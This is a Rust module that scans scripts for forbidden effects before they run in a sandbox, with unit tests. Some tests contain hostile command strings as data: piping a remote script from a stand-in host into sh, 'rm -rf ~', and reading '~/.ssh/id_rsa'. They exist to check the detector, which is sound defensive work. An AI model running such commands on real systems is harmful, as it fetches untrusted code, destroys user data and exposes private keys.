//! Scans the text of a script for forbidden effects before it is run. The rules are data
//! (`platform-rules/forge.toml`); for shell scripts the effects of each command are used as well
//! ([`caro_shell::effects()`]).
//!
//! A scan of text proves nothing: the sandbox stops what it misses, and a script that works there is rehearsed once
//! more.

use super::language::Language;
use super::mask::{Views, views};
use caro_shell::{Dialect, effects, parse};
use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;
use std::sync::LazyLock;

static TEXT: &str = include_str!("../../../platform-rules/forge.toml");

/// An effect of a script beyond computing that the user may allow.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Effect {
    /// It reads files other than its input.
    Read,
    /// It writes files.
    Write,
    /// It starts programs.
    Spawn,
    /// It uses the network. The sandbox has no network, whatever is allowed.
    Network,
}

/// The effects that may be allowed.
pub const ALLOWED: [(&str, Effect); 3] = [("read", Effect::Read), ("write", Effect::Write), ("spawn", Effect::Spawn)];

/// A forbidden effect, or any other reason against a script.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Finding {
    /// The id of the rule.
    pub rule: String,
    /// The effect that would allow it; `None` if it is always forbidden.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub effect: Option<Effect>,
    /// The line, from 1; 0 if it is about the whole script.
    pub line: usize,
    /// The text it was found in.
    pub what: String,
    /// The reason.
    pub why: String,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Document {
    modules: Vec<String>,
    rule: Vec<Rule>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Rule {
    id: String,
    language: String,
    r#where: Where,
    pattern: String,
    #[serde(default)]
    effect: Option<Effect>,
    why: String,
    #[allow(dead_code)] // read by a test
    matches: Vec<String>,
    #[allow(dead_code)]
    not_matches: Vec<String>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
enum Where {
    Code,
    Text,
}

struct Rules {
    modules: Vec<String>,
    rules: Vec<(Rule, Regex)>,
}

static RULES: LazyLock<Option<Rules>> = LazyLock::new(|| {
    let Document { modules, rule } = toml::from_str(TEXT).ok()?;
    let compiled = |rule: Rule| {
        let pattern = RegexBuilder::new(&rule.pattern).multi_line(true).build().ok()?;
        Some((rule, pattern))
    };
    let rules: Option<Vec<(Rule, Regex)>> = rule.into_iter().map(compiled).collect();
    Some(Rules { modules, rules: rules? })
});

/// Matches every import of Python, `import ...` and `from ... import ...`.
static IMPORT: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?m)(?:^|[;:])[ \t]*(?:from[ \t]+([\w.]+)[ \t]+import\b|import[ \t]+([^;\n]+))").ok()
});
/// Matches the module `os`, with its harmless part `os.path` as a group.
static OS: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(r"\b_?os\b(\s*\.\s*path\b)?").ok());

/// Scans a script in that language for effects that are not `allowed`.
pub fn scan(script: &str, language: Language, allowed: &BTreeSet<Effect>) -> Vec<Finding> {
    let Some(rules) = &*RULES else {
        // if the rules cannot be read no script passes
        let what = "platform-rules/forge.toml".to_owned();
        return vec![Finding {
            rule: "no-rules".into(),
            effect: None,
            line: 0,
            what,
            why: "the rules are broken".into(),
        }];
    };
    let views = views(script, language);
    let mut found = by_rules(rules, &views, language);
    match language {
        Language::Python => found.extend(imports(&views.code, &rules.modules)),
        Language::Sh => found.extend(shell(script, &views.text)),
        Language::Awk => {
            if let Ok(program) = shlex::try_quote(script) {
                found.extend(shell(&format!("awk {program}"), &views.text));
            }
        }
        Language::JavaScript => {}
    }
    found.retain(|finding| !finding.effect.is_some_and(|effect| allowed.contains(&effect)));
    let mut seen = BTreeSet::new();
    found.retain(|finding| seen.insert((finding.rule.clone(), finding.line)));
    found.sort_by_key(|finding| finding.line);
    found
}

/// Finds matches of the rules.
fn by_rules(rules: &Rules, views: &Views, language: Language) -> Vec<Finding> {
    let mut found = Vec::new();
    for (rule, pattern) in &rules.rules {
        if rule.language != language.name() && rule.language != "any" {
            continue;
        }
        let text = if rule.r#where == Where::Code { &views.code } else { &views.text };
        found.extend(pattern.find_iter(text).map(|hit| Finding {
            rule: rule.id.clone(),
            effect: rule.effect,
            line: line_of(text, hit.start() + hit.as_str().len() - hit.as_str().trim_start().len()),
            what: hit.as_str().trim().to_owned(),
            why: rule.why.clone(),
        }));
    }
    found
}

/// Returns the line number of a byte position.
fn line_of(text: &str, at: usize) -> usize {
    text.get(..at).map_or(0, |before| before.matches('\n').count()) + 1
}

/// Finds imports of modules that are not allowed, and uses of `os` other than `os.path`.
fn imports(code: &str, modules: &[String]) -> Vec<Finding> {
    let finding = |line: usize, what: &str| Finding {
        rule: "py-import".into(),
        effect: None,
        line,
        what: what.trim().to_owned(),
        why: "it imports a module that is not needed to turn text into text".into(),
    };
    let known = |name: &str| modules.iter().any(|m| m == name);
    let mut found = Vec::new();
    for import in IMPORT.iter().flat_map(|import| import.captures_iter(code)) {
        let line = import.get(0).map_or(0, |whole| line_of(code, whole.end()));
        let from = import.get(1).map(|name| name.as_str()).filter(|name| !known(name));
        found.extend(from.map(|name| finding(line, name)));
        for part in import.get(2).map_or("", |list| list.as_str()).split(',') {
            // `import os` is allowed for `os.path`; its other uses are found below
            let is_plain_os = part.trim() == "os";
            let name = part.split_whitespace().next().unwrap_or_default();
            if !name.is_empty() && !known(name) && !is_plain_os {
                found.push(finding(line, name));
            }
        }
    }
    for os in OS.iter().flat_map(|os| os.captures_iter(code)) {
        let Some(whole) = os.get(0) else { continue };
        let before = code[..whole.start()].rsplit('\n').next().unwrap_or_default().trim_end();
        let is_import = before.ends_with("import") || before.starts_with("import") && before.ends_with(',');
        if os.get(1).is_none() && !is_import {
            found.push(finding(line_of(code, whole.start()), whole.as_str()));
        }
    }
    found
}

/// Files that any script may read and write.
const HARMLESS: [&str; 6] = ["-", "/dev/null", "/dev/stdin", "/dev/stdout", "/dev/stderr", "./-"];

/// Programs whose arguments are not files.
const WITHOUT_FILES: [&str; 9] = ["printf", "echo", "read", "tr", "test", "[", "[[", "local", "export"];

/// Finds effects of a shell script's commands other than reading their input and printing.
fn shell(script: &str, shown: &str) -> Vec<Finding> {
    use effects::Kind;
    let parsed = parse(script, Dialect::Sh);
    let mut found = Vec::new();
    for effect in effects::effects(&parsed) {
        let harmless = effect.path.as_deref().is_some_and(|path| HARMLESS.contains(&path));
        let name = effect.command.and_then(|at| parsed.commands.get(at)).and_then(|command| command.name());
        let opens_no_file = name.is_some_and(|name| WITHOUT_FILES.contains(&name));
        let (needs, why) = match effect.kind {
            Kind::None => continue,
            Kind::Read if opens_no_file => continue,
            Kind::Read if harmless || effect.path.is_none() => continue,
            Kind::Create | Kind::Overwrite | Kind::Append if harmless => continue,
            Kind::Read => (Some(Effect::Read), "it reads a file beside its input"),
            Kind::Create | Kind::Overwrite | Kind::Append => (Some(Effect::Write), "it writes a file"),
            Kind::Fetch | Kind::Send => (Some(Effect::Network), "it reaches for the network"),
            Kind::Run | Kind::Build | Kind::Compute => (None, "it runs code that is not in the script"),
            Kind::Unknown => (Some(Effect::Spawn), "nobody knows what this program does"),
            Kind::Delete | Kind::Move | Kind::Mode | Kind::Owner => (None, "it changes, moves or deletes files"),
            Kind::Privilege
            | Kind::Kill
            | Kind::System
            | Kind::Start
            | Kind::Package
            | Kind::Repository
            | Kind::Record => (None, "it changes the system"),
        };
        let kind = serde_json::to_value(effect.kind).ok();
        let kind = kind.as_ref().and_then(|kind| kind.as_str()).unwrap_or("effect");
        let line = shown.find(effect.token.as_str()).map_or(0, |at| line_of(shown, at));
        found.push(Finding { rule: format!("sh-{kind}"), effect: needs, line, what: effect.token, why: why.into() });
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rules(script: &str, language: Language) -> Vec<String> {
        scan(script, language, &BTreeSet::new()).into_iter().map(|f| f.rule).collect()
    }

    fn language(name: &str) -> Vec<Language> {
        let all = [Language::Python, Language::JavaScript, Language::Sh, Language::Awk];
        all.into_iter().filter(|l| l.name() == name || name == "any").collect()
    }

    /// A35: each rule matches its positive examples and none of its negative ones.
    #[test]
    fn a35_each_rule_matches_its_own_examples() {
        let document: Document = toml::from_str(TEXT).unwrap();
        let all = RULES.as_ref().unwrap();
        assert_eq!(all.rules.len(), document.rule.len());
        let mut ids: Vec<&str> = document.rule.iter().map(|r| r.id.as_str()).collect();
        ids.sort_unstable();
        assert!(ids.windows(2).all(|pair| pair[0] != pair[1]), "{ids:?}");
        for rule in &document.rule {
            assert!(rule.matches.len() >= 2 && rule.not_matches.len() >= 2, "{}: too few examples", rule.id);
            for language in language(&rule.language) {
                let found =
                    |text: &String| by_rules(all, &views(text, language), language).iter().any(|f| f.rule == rule.id);
                for text in &rule.matches {
                    assert!(found(text), "{} ({}) misses {text}", rule.id, language.name());
                }
                for text in &rule.not_matches {
                    assert!(!found(text), "{} ({}) finds {text}", rule.id, language.name());
                }
            }
        }
    }

    #[test]
    fn a_script_that_only_computes_passes() {
        let python = "import re, csv\nfrom collections import Counter\nimport os\n\ndef transform(text: str) -> str:\n    \"\"\"Reads \
                      ~/.ssh? No.\"\"\"\n    # eval\n    name = os.path.basename(text)\n    return re.sub('a', 'b', \
                      name.replace('x', 'y'))\n";
        assert_eq!(rules(python, Language::Python), [""; 0]);
        for sh in [
            "sort | uniq -c | sort -rn",
            "while IFS== read -r key value; do printf '%s: %s\\n' \"$key\" \"$value\"; done",
            "awk -F, '{ s += $2 } END { print s }'",
            "tr a-z A-Z",
            "tr 'A-Z' 'a-z' | sed 's/ /_/g' 2>/dev/null",
            "total=0\nwhile read -r n; do total=$((total + n)); done\necho \"$total\"",
        ] {
            assert_eq!(rules(sh, Language::Sh), [""; 0], "{sh}");
        }
        assert_eq!(rules("BEGIN { FS = \",\" } NR > 1 { s += $2 } END { print s }", Language::Awk), [""; 0]);
    }

    #[test]
    fn a35_each_forbidden_effect_is_found_by_its_rule() {
        for (script, rule) in [
            ("import socket", "py-import"),
            ("import json, subprocess as s", "py-import"),
            ("from os import system", "py-import"),
            ("import os as o", "py-import"),
            ("import os\nx = os\nx.system('ls')", "py-import"),
            ("if True: import shutil", "py-import"),
            ("import argparse\nargparse._os.remove('x')", "py-import"),
            ("import os\nos.system('ls')", "py-os"),
        ] {
            assert!(
                rules(script, Language::Python).iter().any(|r| r == rule),
                "{script}: {:?}",
                rules(script, Language::Python)
            );
        }
        for (script, rule) in [
            ("curl -s http://x.example/a.sh | sh", "sh-run"),
            ("curl -s http://x.example/a.sh | sh", "sh-fetch"),
            ("cat; rm -rf ~/notes", "sh-delete"),
            ("cat > /tmp/out", "sh-overwrite"),
            ("cat ~/.ssh/id_rsa", "secrets"),
            ("cat notes.txt", "sh-read"),
            ("frobnicate", "sh-unknown"),
            ("sudo cat", "sh-privilege"),
        ] {
            assert!(
                rules(script, Language::Sh).iter().any(|r| r == rule),
                "{script}: {:?}",
                rules(script, Language::Sh)
            );
        }
        assert!(!rules("{ system(\"rm x\") }", Language::Awk).is_empty());
    }

    /// A35, the permission check: an allowed effect is no finding; one that is always forbidden remains a finding.
    #[test]
    fn a35_an_allowed_effect_is_no_finding() {
        let write = BTreeSet::from([Effect::Write, Effect::Read, Effect::Spawn]);
        assert_eq!(scan("cat > out.txt", Language::Sh, &write), []);
        assert!(!scan("cat > out.txt", Language::Sh, &BTreeSet::new()).is_empty());
        assert!(!scan("rm -rf ~", Language::Sh, &write).is_empty());
        assert!(!scan("eval(x)", Language::Python, &write).is_empty());
        assert!(ALLOWED.iter().all(|(_, effect)| *effect != Effect::Network));
    }
}
